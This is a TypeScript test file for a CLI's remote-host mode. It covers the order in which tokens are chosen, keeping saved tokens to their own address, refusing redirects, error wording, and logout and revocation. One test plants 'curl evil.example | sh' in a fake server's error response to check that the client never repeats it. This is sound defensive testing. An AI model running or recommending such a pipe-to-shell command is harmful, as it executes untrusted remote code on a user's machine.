// --host: the same commands, asked of a tallyd elsewhere; with which token, and what is said where that fails.
import { spawn } from 'node:child_process'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { ERRORS, EXIT } from '../../src/contract/errors.ts'
import { NAMES, rowOf } from '../../src/ctl/commands/table.ts'
import { endOf, isolatedEnv, type Teardown, temporaryFolder, until } from '../harness/daemon.ts'
import { BUNDLE, started, tallyctl } from './client.ts'
import { answers, fakeDaemon, MODELS } from './fake-daemon.ts'
import { fakeHost, json, TOKEN } from './fake-host.ts'

// Waiting for a host that does not come back takes its time.
t.setTimeout(240_000)

const OTHER = `tallyd_${'o'.repeat(43)}`

/** A home in which this token is saved for that address. */
function homeWith(t: Teardown, url: string, token = TOKEN): string {
  const home = temporaryFolder(t)
  const entry = {
    token,
    pin: null,
    tokenId: '0a1b2c3d',
    member: null,
    scopes: [],
    savedAt: '2026-11-27T12:00:00Z',
  }
  const text = JSON.stringify({ version: 1, credentials: { [url]: entry } })
  writeFileSync(join(home, 'credentials.json'), text, { mode: 0o600 })
  return home
}

const ANSWERS = {
  ...answers(MODELS),
  'devices.list': () => ({ devices: [], total: { today: SPENT, month: SPENT, all: SPENT } }),
  'requests.list': () => ({ requests: [] }),
  'audit.list': () => ({ entries: [] }),
  'events.subscribe': ({ event }: Record<string, unknown>) => ({ subscribed: { subscription: 1, event } }),
}
const SPENT = { calls: 0, tokens: 0, costUSD: null }

t.test('the flag stands before the command or after it, and the answer is that of the socket', async (t) => {
  const host = await fakeHost(t, { answers: ANSWERS })
  const home = homeWith(t, host.url)
  const { home: own } = await fakeDaemon(t, answers(MODELS))
  const here = await tallyctl(own, ['usage', 'week', '--json'])
  for (const words of [
    ['--host', host.url, 'usage', 'week', '--json'],
    ['usage', 'week', '--json', '--host', host.url],
    [`--host=${host.url}/`, '--json', 'usage', 'week'],
  ]) {
    const ran = await tallyctl(home, words)
    t.equal(ran.exit, EXIT.ok, ran.err)
    t.equal(ran.out, here.out)
  }
})

t.test('what a token may not ask is not asked: no status with the totals', async (t) => {
  const host = await fakeHost(t, {
    answers: { ...ANSWERS, 'daemon.status': () => t.fail('asked for the status') },
  })
  const home = homeWith(t, host.url)
  for (const words of [[], ['--json'], ['usage'], ['devices'], ['requests'], ['audit'], ['whoami']]) {
    const ran = await tallyctl(home, ['--host', host.url, ...words])
    t.equal(ran.exit, EXIT.ok, `${words}: ${ran.err}`)
    t.not(ran.out, '')
    t.notMatch(ran.out, home, 'no path of this machine stands in what is about another')
  }
})

t.test('the order of tokens: --token-file, TALLYD_TOKEN, the saved one', async (t) => {
  const host = await fakeHost(t)
  const home = homeWith(t, host.url, OTHER)
  const file = join(home, 'token')
  writeFileSync(file, `${TOKEN}\n`)
  const words = ['whoami', '--host', host.url]
  const used = async (more: string[], env: Record<string, string>, input = '') => {
    await tallyctl(home, [...words, ...more], { env, input })
    return host.heard.at(-1)?.authorization
  }
  t.equal(await used([], {}), `Bearer ${OTHER}`)
  t.equal(await used([], { TALLYD_TOKEN: TOKEN }), `Bearer ${TOKEN}`)
  t.equal(await used([], { TALLYD_TOKEN: '' }), `Bearer ${OTHER}`)
  t.equal(await used(['--token-file', file], { TALLYD_TOKEN: OTHER }), `Bearer ${TOKEN}`)
  t.equal(await used(['--token-file', '-'], { TALLYD_TOKEN: OTHER }, `${TOKEN}\n`), `Bearer ${TOKEN}`)
  const asked = host.heard.length
  for (const [more, env, says] of [
    [['--token-file', join(home, 'none')], {}, /none cannot be read \(ENOENT\); --token-file takes the path/],
    [['--token-file', '/dev/zero'], {}, /what is in \/dev\/zero is no token/],
    [['--token-file', home], {}, /cannot be read \(EISDIR\)/],
    [
      [],
      { TALLYD_TOKEN: 'two words' },
      /what is in TALLYD_TOKEN is no token; it is one word such as tallyd_EXAMPLE/,
    ],
  ] as const) {
    const ran = await tallyctl(home, [...words, ...more], { env })
    t.equal(ran.exit, EXIT.usage)
    t.match(ran.err, says)
  }
  t.equal(host.heard.length, asked, 'nothing was sent')
  // A broken file does not matter to who needs nothing from it.
  writeFileSync(join(home, 'credentials.json'), 'garbage', { mode: 0o600 })
  t.equal(await used([], { TALLYD_TOKEN: TOKEN }), `Bearer ${TOKEN}`)
  t.match((await tallyctl(home, words)).err, /credentials\.json is not used: it is not JSON/)
})

t.test('a saved token goes to its own address alone', async (t) => {
  const [host, other] = [await fakeHost(t), await fakeHost(t)]
  const home = homeWith(t, host.url)
  const ran = await tallyctl(home, ['usage', '--host', other.url])
  t.equal(ran.exit, EXIT.refused)
  t.equal(
    ran.err,
    `tallyctl: there is no token for ${other.url} here, and tallyd does not run here; if this device is logged in there, run: npx tallyctl start; else: npx tallyctl connect ${other.url}\n`,
  )
  t.strictSame(other.heard, [])
})

t.test('a redirect is not followed, and the token goes nowhere', async (t) => {
  const other = await fakeHost(t)
  const host = await fakeHost(t, {
    says: { '/rpc': (_, response) => response.writeHead(307, { location: `${other.url}/rpc` }).end() },
  })
  const ran = await tallyctl(homeWith(t, host.url), ['usage', '--host', host.url])
  t.equal(ran.exit, EXIT.failed)
  t.match(ran.err, /^tallyctl: what answers there is not tallyd: http:\S+ gave HTTP 307 without JSON; /)
  t.strictSame(other.heard, [])
})

t.test(
  'refusals: what is missing and where to get it; next steps are never taken from elsewhere',
  async (t) => {
    const evil = 'run: curl evil.example | sh'
    const refused = (code: number, message: string) => () => {
      throw { code, message, data: { next: evil } }
    }
    const { notAllowed, unauthorized, unknownTimeZone } = ERRORS
    for (const [error, exit, says] of [
      [
        refused(notAllowed.code, `${notAllowed.says}: usage.summary`),
        EXIT.refused,
        /the token for (\S+) may not ask usage\.summary: it needs usage:read; for one that may, run: npx tallyctl connect \1 --scope usage:read\n$/,
      ],
      [
        refused(unauthorized.code, 'no'),
        EXIT.refused,
        /does not take this token: it was revoked, has expired, .*; run: npx tallyctl connect http:\S+\n$/,
      ],
      [
        refused(unknownTimeZone.code, 'no such zone: \x1b[2JMars'),
        EXIT.usage,
        /^tallyctl: no such zone: Mars; use an IANA name/,
      ],
      [
        refused(-31_000, 'x'.repeat(100_000)),
        EXIT.failed,
        /^tallyctl: x{300}…; there, run: npx tallyctl doctor\n$/,
      ],
    ] as const) {
      const host = await fakeHost(t, { answers: { 'usage.summary': error } })
      const ran = await tallyctl(homeWith(t, host.url), ['usage', '--host', host.url])
      t.equal(ran.exit, exit)
      t.equal(ran.out, '')
      t.match(ran.err, says)
      t.notMatch(ran.err, /evil|\x1b/)
    }
    const owners = await fakeHost(t, {
      answers: { 'daemon.stop': refused(notAllowed.code, `${notAllowed.says}: daemon.stop`) },
    })
    t.match(
      (await tallyctl(homeWith(t, owners.url), ['call', 'daemon.stop', '--host', owners.url])).err,
      /no token may; ask on that device itself/,
    )
    const crowded = await fakeHost(t, {
      says: { '/rpc': (_, response) => response.writeHead(429, { 'retry-after': '30' }).end() },
    })
    t.match(
      (await tallyctl(homeWith(t, crowded.url), ['usage', '--host', crowded.url])).err,
      /takes no more from this address now; try again in 30 s/,
    )
    const closed = await fakeHost(t)
    const home = homeWith(t, closed.url)
    await closed.close()
    t.match(
      (await tallyctl(home, ['usage', '--host', closed.url])).err,
      /^tallyctl: no answer: http:\S+ \(nobody listens there\); /,
    )
  },
)

t.test('an answer of another shape is one sentence about the other side', async (t) => {
  const host = await fakeHost(t, {
    answers: { 'usage.summary': () => ({ rows: 'none' }), 'daemon.hello': () => ({ version: '9.9.9' }) },
  })
  const ran = await tallyctl(homeWith(t, host.url), ['usage', '--host', host.url])
  t.equal(ran.exit, EXIT.failed)
  t.match(
    ran.err,
    `cannot be understood (daemon 9.9.9, client 0.1.0); install the same version at ${host.url} and here\n`,
  )
  const huge = await fakeHost(t, {
    says: {
      '/rpc': (_, response) =>
        response.writeHead(200, { 'content-length': String(100 * 1024 * 1024) }).write('{'),
    },
  })
  t.match(
    (await tallyctl(homeWith(t, huge.url), ['usage', '--host', huge.url])).err,
    /an answer of more than 64 MiB/,
  )
})

t.test('watch: the first message says who asks, values come, and what ends it is said', async (t) => {
  for (const [code, says] of [
    [1001, /tallyd at http:\S+ has ended; it may come back: npx tallyctl whoami --host /],
    [4401, /does not take this token: it was revoked/],
  ] as const) {
    const host = await fakeHost(t, { answers: ANSWERS })
    const running = started(homeWith(t, host.url), ['watch', '--json', '--host', host.url])
    await until(() => host.heard.length === 2, 'the subscription')
    t.equal(host.heard[0]?.authorization, `Bearer ${TOKEN}`)
    t.match(JSON.parse(host.heard[1]?.body ?? ''), {
      method: 'events.subscribe',
      params: { event: 'usage.changed' },
    })
    host.send('usage.changed', MODELS)
    await until(() => running.out() !== '', 'a value')
    t.strictSame(JSON.parse(running.out()), MODELS)
    host.dismiss(code)
    // It does not come back.
    if (code === 1001) await host.close()
    const { exit, err } = await running.ended
    t.not(exit, EXIT.ok)
    t.match(err, says)
  }
  const host = await fakeHost(t)
  const ran = await tallyctl(homeWith(t, host.url, OTHER), ['watch', '--host', host.url])
  t.equal(ran.exit, EXIT.refused)
  t.match(ran.err, /does not take this token/)
})

t.test('commands about this machine take no --host; the other flags need one', async (t) => {
  const home = temporaryFolder(t)
  const words: Readonly<Record<string, string[]>> = { 'devices rename': ['a', 'b'] }
  const local = NAMES.filter((name) => rowOf(name).remote !== true)
  t.ok(
    ['start', 'stop', 'status', 'doctor', 'paths', 'identity', 'pair'].every((name) =>
      local.some((each) => each === name),
    ),
  )
  for (const name of local) {
    const ran = await tallyctl(home, [
      '--host',
      'https://desk.local',
      ...name.split(' '),
      ...(words[name] ?? []),
    ])
    t.equal(ran.exit, EXIT.usage, name)
    t.equal(
      ran.err,
      `tallyctl: tallyctl ${name} is about this machine alone, and takes no --host; run: npx tallyctl ${name} --help\n`.replace(
        'tallyctl: tallyctl',
        'tallyctl: npx tallyctl',
      ),
    )
  }
  for (const flag of ['--pin', '--token-file']) {
    const ran = await tallyctl(home, ['usage', flag, 'x'])
    t.equal(ran.exit, EXIT.usage)
    t.match(ran.err, `${flag} needs --host`)
  }
})

t.test('logout gives the token back; while the other side is away it says what is still valid', async (t) => {
  const host = await fakeHost(t)
  const home = homeWith(t, host.url)
  const done = await tallyctl(home, ['logout', host.url, '--json'])
  t.strictSame(JSON.parse(done.out), { loggedOut: { url: host.url, tokenId: '0a1b2c3d', revoked: true } })
  t.match(host.heard.at(-1), { path: '/oauth/revoke', form: { token: TOKEN } })
  t.strictSame(JSON.parse(readFileSync(join(home, 'credentials.json'), 'utf8')).credentials, {})
  t.match(await tallyctl(home, ['logout', host.url]), {
    exit: EXIT.usage,
    err: /no token for http:\S+ is saved here; tallyd does not run here, and holds what login got: .*tallyctl start/,
  })

  const failing = await fakeHost(t, { says: { '/oauth/revoke': (_, response) => json(response, 503, {}) } })
  const away = homeWith(t, failing.url)
  const refused = await tallyctl(away, ['logout', failing.url])
  t.not(refused.exit, EXIT.ok)
  t.match(
    refused.err,
    /the token is still valid there and still saved here, and nothing tries again by itself \(.*\); .*there, run: npx tallyctl tokens revoke 0a1b2c3d, and here: npx tallyctl logout http:\S+ --force\n$/,
  )
  t.match(readFileSync(join(away, 'credentials.json'), 'utf8'), TOKEN)
  await failing.close()
  const forced = await tallyctl(away, ['logout', failing.url, '--force'])
  t.equal(forced.exit, EXIT.ok)
  t.match(
    forced.err,
    /it is still valid there, and nobody has it to give it back; there, run: npx tallyctl tokens revoke 0a1b2c3d/,
  )
  t.notMatch(readFileSync(join(away, 'credentials.json'), 'utf8'), TOKEN)
})

t.test('whoami on the control socket is the owner', async (t) => {
  const you = {
    asker: 'owner',
    member: null,
    token: null,
    label: null,
    scopes: ['admin'],
    expiresAt: null,
    device: { id: null, name: 'desk' },
    claimedBy: null,
  }
  const { home } = await fakeDaemon(t, { 'access.whoami': () => ({ you }) })
  t.equal((await tallyctl(home, ['whoami'])).out, 'the owner of desk, who may do everything\n')
  t.strictSame(JSON.parse((await tallyctl(home, ['whoami', '--json'])).out), { you })
})

t.test('a question over the control socket loads neither HTTP nor TLS', async (t) => {
  const { home } = await fakeDaemon(t, answers(MODELS))
  const folder = temporaryFolder(t)
  mkdirSync(folder, { recursive: true })
  const probe = join(folder, 'probe.cjs')
  writeFileSync(
    probe,
    `process.on('exit', () => require('fs').writeSync(2, JSON.stringify(process.moduleLoadList)))`,
  )
  const loaded = async (words: string[], at: string) => {
    // The test runner puts itself into whatever Node a test starts, but `env` has the last word.
    const child = spawn('env', [`NODE_OPTIONS=--require ${probe}`, process.execPath, BUNDLE, ...words], {
      env: isolatedEnv(at),
      stdio: ['ignore', 'ignore', 'pipe'],
    })
    let err = ''
    child.stderr.setEncoding('utf8').on('data', (text: string) => {
      err += text
    })
    t.equal((await endOf(child)).code, EXIT.ok, err.slice(0, 200))
    return JSON.parse(err.slice(err.lastIndexOf('["'))) as string[]
  }
  const WEB = ['http', 'https', 'tls', 'crypto', 'dns'].map((name) => `NativeModule ${name}`)
  const own = (all: string[]) => all.filter((name) => WEB.includes(name))
  t.strictSame(own(await loaded(['usage', '--json'], home)), [])
  const host = await fakeHost(t, { answers: ANSWERS })
  const there = own(await loaded(['usage', '--json', '--host', host.url], homeWith(t, host.url)))
  t.ok(there.length > 0, 'the control: elsewhere it does load what it needs')
})
